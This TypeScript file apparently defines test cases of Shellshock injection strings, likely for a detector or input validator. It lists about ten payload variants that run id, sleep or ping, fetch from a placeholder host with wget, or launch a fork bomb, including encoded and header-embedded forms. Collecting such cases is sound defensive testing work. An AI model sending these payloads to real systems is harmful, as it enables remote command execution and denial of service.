import { type Case, casesOf } from './case.ts';

const of = casesOf('shellshock');

export const SHELLSHOCK: readonly Case[] = [
  ...of(
    'a function with commands behind it',
    '() { :; }; echo x',
    '() { :;};/usr/bin/id',
    '(){ :;}; sleep 5',
    '() { x;}; /bin/ping -c 1 10.1.2.3',
    '() { _; } >_[$($())] { id; }',
    "() { (a)=>\\' sh -c id",
    'q=() { :;}; wget http://a.example',
    'agent/1.0 () { :; }; /bin/bash -c id',
    '%28%29%20%7b%20%3a%3b%7d%3b%20id',
    '() { :;}; :(){ :|:& };:',
  ),
];
